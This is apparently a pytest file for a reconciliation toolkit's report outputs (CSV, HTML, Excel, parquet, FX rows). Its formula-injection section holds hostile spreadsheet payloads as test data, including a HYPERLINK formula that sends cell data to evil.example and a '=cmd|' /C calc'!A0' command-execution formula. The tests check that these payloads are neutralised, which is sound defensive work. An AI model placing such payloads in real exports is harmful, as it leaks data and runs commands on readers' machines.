"""Reports: the four files, snapshot-tested (volatile parts stabilised), environment on top."""

from __future__ import annotations

import csv
import os
import re
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.reconcile.conftest import FillDisk
from tests.reconcile.information import FX_ROWS, with_information
from tests.reconcile.planted import PLANTED_LEDGER, PLANTED_PROCESSOR, run
from toolkit.errors import OutputError
from toolkit.output_record import RECORD_NAME
from toolkit.outputs import frame_records
from toolkit.reconcile import (
    EXCEPTION_COLUMNS,
    ReconciliationResult,
    load_ledger,
    load_processor,
    reconcile,
    render_html,
    summary_text,
    write_report,
)
from toolkit.reconcile.result import FX_COLUMNS

SNAPSHOTS = Path(__file__).parent / "snapshots"
WHEN = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
ENVIRONMENT = "embedded sandbox (.toolkit/sandbox.sqlite)"
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")  # what a spreadsheet reads as a number, not a formula


def check_snapshot(name: str, text: str) -> None:
    path = SNAPSHOTS / name
    if os.environ.get("UPDATE_SNAPSHOTS"):
        path.write_text(text, encoding="utf-8")
    assert path.exists(), f"no snapshot {name}: run with UPDATE_SNAPSHOTS=1 and review it"
    assert text == path.read_text(encoding="utf-8"), (
        f"snapshot {name} differs (UPDATE_SNAPSHOTS=1 to accept the new output after review)"
    )


def test_report_files_and_snapshots(tmp_path: Path) -> None:
    result = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
    paths = write_report(
        result, tmp_path / "out", title="Daily reconciliation", environment=ENVIRONMENT, generated_at=WHEN
    )
    assert sorted(paths) == [
        "exceptions.csv",
        "exceptions.parquet",
        "report.html",
        "report.xlsx",
        "summary.csv",
    ]
    exceptions = paths["exceptions.csv"].read_text(encoding="utf-8")
    assert exceptions.splitlines()[0] == ",".join(EXCEPTION_COLUMNS)
    check_snapshot("exceptions.csv", exceptions)
    check_snapshot("summary.csv", paths["summary.csv"].read_text(encoding="utf-8"))
    html = paths["report.html"].read_text(encoding="utf-8")
    check_snapshot("report.html", html)
    # The environment is the first thing on the page.
    body = html.split("<body>", 1)[1]
    assert body.lstrip().startswith('<p class="environment"><strong>Data from: embedded sandbox')
    assert "KWD0.001" in html.replace("\xa0", "")  # formatted money


def test_workbook_has_every_exception(tmp_path: Path) -> None:
    result = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
    paths = write_report(result, tmp_path, environment=ENVIRONMENT, generated_at=WHEN)
    workbook = openpyxl.load_workbook(paths["report.xlsx"], read_only=True)
    assert workbook.sheetnames[0] == "Summary"
    summary = list(workbook["Summary"].iter_rows(values_only=True))
    assert summary[0][0] == f"Data from: {ENVIRONMENT}"
    total = 0
    for category, count in result.category_counts.items():
        if not count:  # no empty sheets
            assert category not in workbook.sheetnames
            continue
        sheet = pd.read_excel(paths["report.xlsx"], sheet_name=category, dtype=str)
        assert list(sheet.columns) == list(EXCEPTION_COLUMNS)
        assert len(sheet) == count
        total += len(sheet)
    assert total == result.exception_count
    mismatch = pd.read_excel(paths["report.xlsx"], sheet_name="amount_mismatch", dtype=str)
    assert "0.001" in mismatch["ledger_amount"].tolist()  # the exact amount (a number cell)


def test_html_shows_only_first_rows(tmp_path: Path) -> None:
    """The first 5 shown; the other 25 in the page, hidden until the reader asks for more."""
    ledger = [(f"k{i}", "1.00", "USD", "success") for i in range(30)]
    result = run(ledger, [])
    html = render_html(result, title="t", environment="live", generated_at=WHEN, rows=5)
    assert "In the books, not at the processor: first 5 of 30." in html
    assert html.count("not found at the processor") == 30
    assert html.count(" data-held hidden>") == 25


def test_workbook_survives_control_characters_and_splits_at_the_row_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A key with a control character (XML cannot hold it) must not break the workbook, and a
    category longer than a sheet continues on the next sheet, so every exception is in Excel."""
    import toolkit.reconcile.render.workbook_exceptions as writer

    monkeypatch.setattr(writer, "MAX_SHEET_ROWS", 3)
    ledger = [(f"only-ledger-{i}\x07", "1.00", "USD", "success") for i in range(5)]
    result = run(ledger, [("other", "1.00", "USD", "success")])
    paths = write_report(result, tmp_path, environment=ENVIRONMENT, generated_at=WHEN)
    workbook = openpyxl.load_workbook(paths["report.xlsx"], read_only=True)
    parts = [name for name in workbook.sheetnames if name.startswith("missing_in_processor")]
    assert parts == ["missing_in_processor", "missing_in_processor (2)", "missing_in_processor (3)"]
    keys = [row[0] for name in parts for row in workbook[name].iter_rows(min_row=2, values_only=True)]
    assert sorted(keys) == [f"only-ledger-{i}" for i in range(5)]


# ---------------------------------------------------------------------------------------------
# CSV formula injection and safe writing

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "@SUM(1)",
    "\t=1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def injection_result(tmp_path: Path) -> ReconciliationResult:
    """A ledger file whose keys, statuses and currencies hold formulas; one negative amount."""
    rows = [f'"{p.replace(chr(34), chr(34) * 2)}",1.00,USD,success' for p in PAYLOADS]
    rows += ['rej-status,1.00,USD,"=1+2"', 'rej-currency,1.00,"@A1",success', "neg,-12.00,USD,success"]
    ledger = tmp_path / "ledger.csv"
    ledger.write_text(
        "merchantReferenceId,amount,currency,status\n" + "\n".join(rows) + "\n", encoding="utf-8"
    )
    processor = pd.DataFrame(
        {"merchantReferenceId": ["neg"], "amount": ["-12.01"], "currency": ["USD"], "status": ["success"]}
    )
    return reconcile(load_ledger(ledger), load_processor(processor))


def test_csv_cells_a_spreadsheet_would_execute_are_neutralised(tmp_path: Path) -> None:
    result = injection_result(tmp_path)
    paths = write_report(result, tmp_path / "out", environment=ENVIRONMENT, generated_at=WHEN)
    for name in ("exceptions.csv", "summary.csv"):
        with paths[name].open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        dangerous = [c for c in cells if c.startswith(RISKY) and not NUMBER.fullmatch(c)]
        assert not dangerous, f"{name}: {dangerous}"
    exceptions = pd.read_csv(paths["exceptions.csv"], dtype=str, keep_default_na=False)
    keys = set(exceptions["merchantReferenceId"])
    # Trimming made the tab guard "\t=1+1" a formula again: it is neutralised like the others.
    assert {"'" + p.strip() for p in PAYLOADS} <= keys
    assert "'=1+2" in set(exceptions["ledger_status"]) and "'@A1" in set(exceptions["ledger_currency"])
    neg = exceptions[exceptions["merchantReferenceId"] == "neg"].iloc[0]
    assert (neg["ledger_amount"], neg["processor_amount"]) == ("-12.00", "-12.01")  # numbers stay


def test_workbook_keeps_text_as_text(tmp_path: Path) -> None:
    """report.xlsx holds inline strings, never formulas: the payload is shown as written."""
    result = injection_result(tmp_path)
    paths = write_report(result, tmp_path / "out", environment=ENVIRONMENT, generated_at=WHEN)
    workbook = openpyxl.load_workbook(paths["report.xlsx"])
    cells = [cell for row in workbook["missing_in_processor"].iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert {c.value for c in cells if c.column == 1} >= {p.strip() for p in PAYLOADS}


def test_a_full_disk_leaves_no_partial_report(tmp_path: Path, fill_disk: FillDisk) -> None:
    result = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
    folder = fill_disk(tmp_path / "full", free=1_000)
    with pytest.raises(OutputError, match="No space left on device") as raised:
        write_report(result, folder, environment=ENVIRONMENT, generated_at=WHEN)
    assert str(folder) in str(raised.value)
    assert list(folder.iterdir()) == []  # no report file, whole or partial, and no temporary


def test_a_failed_run_keeps_the_previous_report_whole(tmp_path: Path, fill_disk: FillDisk) -> None:
    """The four files are moved into place together: a failure leaves the previous set as it was."""
    result = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
    folder = tmp_path / "out"
    before = write_report(result, folder, environment=ENVIRONMENT, generated_at=WHEN)
    old = {name: path.read_bytes() for name, path in before.items()}
    fill_disk(folder, free=1_000)
    with pytest.raises(OutputError):
        write_report(result, folder, environment="changed", generated_at=WHEN)
    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.name != RECORD_NAME} == old


def test_report_files_get_the_usual_permissions(tmp_path: Path) -> None:
    """Written through a temporary file, the reports still get what the umask gives any new file
    (``mkstemp``'s owner-only mode would lock the finance team out of a shared reports folder)."""
    umask = os.umask(0o022)
    try:
        paths = write_report(
            run(PLANTED_LEDGER, PLANTED_PROCESSOR),
            tmp_path / "out",
            environment=ENVIRONMENT,
            generated_at=WHEN,
        )
    finally:
        os.umask(umask)
    assert {name: oct(path.stat().st_mode & 0o777) for name, path in paths.items()} == {
        name: "0o644" for name in paths
    }


# ---------------------------------------------------------------------------------------------
# Informational rows, ages, reference rates (issue 11)


def test_fx_csv_is_exact_and_written_only_with_rates(tmp_path: Path) -> None:
    paths = write_report(with_information(), tmp_path / "fx", environment=ENVIRONMENT, generated_at=WHEN)
    assert sorted(paths) == [
        "exceptions.csv",
        "exceptions.parquet",
        "fx.csv",
        "report.html",
        "report.xlsx",
        "summary.csv",
    ]
    with paths["fx.csv"].open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(FX_COLUMNS)
    assert rows[1:] == [[str(v) for v in row] for row in FX_ROWS]  # exact text: 1.0842, 0.00
    plain = write_report(run(PLANTED_LEDGER, PLANTED_PROCESSOR), tmp_path / "no-fx", environment=ENVIRONMENT)
    assert "fx.csv" not in plain and not (tmp_path / "no-fx" / "fx.csv").exists()
    # The same folder again, for a run without rates: its fx.csv stayed beside the new report as
    # if it were its own; it goes, being the toolkit's. A file of the user's stays, and one of the
    # user's with a name the report would remove (states.csv) stops the run before anything.
    (tmp_path / "fx" / "notes.txt").write_text("mine")
    write_report(run(PLANTED_LEDGER, PLANTED_PROCESSOR), tmp_path / "fx", environment=ENVIRONMENT)
    assert sorted(p.name for p in (tmp_path / "fx").iterdir()) == [
        RECORD_NAME,
        "exceptions.csv",
        "exceptions.parquet",
        "notes.txt",
        "report.html",
        "report.xlsx",
        "summary.csv",
    ]
    (tmp_path / "fx" / "states.csv").write_text("exceptionId,state\n")
    with pytest.raises(OutputError, match=r"states\.csv was not written by the toolkit"):
        write_report(run(PLANTED_LEDGER, PLANTED_PROCESSOR), tmp_path / "fx", environment=ENVIRONMENT)
    assert (tmp_path / "fx" / "states.csv").read_text() == "exceptionId,state\n"


def test_exceptions_csv_has_severity_and_whole_day_ages(tmp_path: Path) -> None:
    result = with_information()
    # Ages as a concatenation may leave them: floats with NaN, objects with None.
    for ages in (
        result.exceptions["age_days"].astype("float64"),
        result.exceptions["age_days"].astype(object),
    ):
        paths = write_report(
            replace(result, exceptions=result.exceptions.assign(age_days=ages)),
            tmp_path / str(ages.dtype),
            environment=ENVIRONMENT,
            generated_at=WHEN,
        )
        frame = pd.read_csv(paths["exceptions.csv"], dtype=str, keep_default_na=False)
        assert list(frame.columns) == list(EXCEPTION_COLUMNS)
        info = frame[frame["severity"] == "info"].set_index("merchantReferenceId")
        assert info["age_days"].to_dict() == {
            "transit-new": "0",
            "transit-old": "2",
            "tol-usd-1": "5",
            "tol-usd-2": "1",
            "tol-jpy": "",
        }
        assert set(frame.loc[frame["severity"] == "exception", "age_days"]) == {""}
        assert (frame["severity"] == "exception").sum() == result.exception_count
        assert info.loc["tol-usd-1", "processor_amount"] == "10.02"  # Decimals exactly


def test_summary_text_says_what_is_only_for_information() -> None:
    plain = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
    assert "in transit" not in summary_text(plain) and "cut-off" not in summary_text(plain)
    text = summary_text(with_information())
    lines = text.splitlines()
    assert lines[0] == (
        "ledger: <ledger frame>: 24 rows = 7 matched + 10 in exceptions + 4 rejected + 2 in transit"
        " + 1 after the cut-off"
    )
    assert lines[1].endswith("+ 1 in transit + 2 after the cut-off")
    assert lines[-1] == "15 exceptions; for information, not exceptions: 2 in transit, 3 within tolerance"
    assert re.search(r"within_tolerance +USD +2 +-0\.01\n", text)  # the summary rows, signed


def test_notebook_view_shows_information_apart_and_the_new_accounting() -> None:
    html = with_information()._repr_html_()
    assert "15 exceptions (amount tolerance 0.5% (at least 2 minor units))" in html
    assert "<p>For information, not exceptions: 2 in transit, 3 within tolerance</p>" in html
    header = re.search(r"<thead><tr><th>side</th>.*?</tr>", html)
    assert header is not None and header.group(0).endswith("<th>in transit</th><th>after cut-off</th></tr>")
    assert "<td>24</td><td>7</td><td>10</td><td>4</td><td>2</td><td>1</td></tr>" in html
    plain = run(PLANTED_LEDGER, PLANTED_PROCESSOR)._repr_html_()
    assert "For information" not in plain and "in transit" not in plain


def test_rows_read_a_column_at_a_time_are_the_frames_rows_as_held() -> None:
    """The page and the notebook read exceptions a column at a time (``frame_records``): each
    row must hold what pandas' own row reading gives, cell for cell and type for type."""
    frame = pd.DataFrame(
        {
            "merchantReferenceId": pd.array(["MR-1", None, "MR-3"], dtype="string[pyarrow]"),
            "category": pd.Categorical(["amount_mismatch", "missing_in_ledger", "amount_mismatch"]),
            "ledger_amount": [Decimal("12.30"), None, Decimal("-0.005")],
            "source_row": [2, 3, 4],
            "age_days": pd.array([1, None, 3], dtype="Int64"),
            "firstSeen": pd.to_datetime(pd.Series(["2026-11-01", "2026-11-02", None]), utc=True),
            7: [1.5, float("nan"), 2.0],
        }
    )
    expected = [{str(k): v for k, v in row.items()} for row in frame.to_dict("records")]
    got = frame_records(frame)
    assert [list(row) for row in got] == [list(row) for row in expected]
    for row, want in zip(got, expected, strict=True):
        for name, value in want.items():
            held = row[name]
            assert type(held) is type(value), name
            assert held is value or held == value or (value != value and held != held), name
    assert frame_records(frame.iloc[:0]) == []
    assert frame_records(frame[[]]) == [{}, {}, {}]
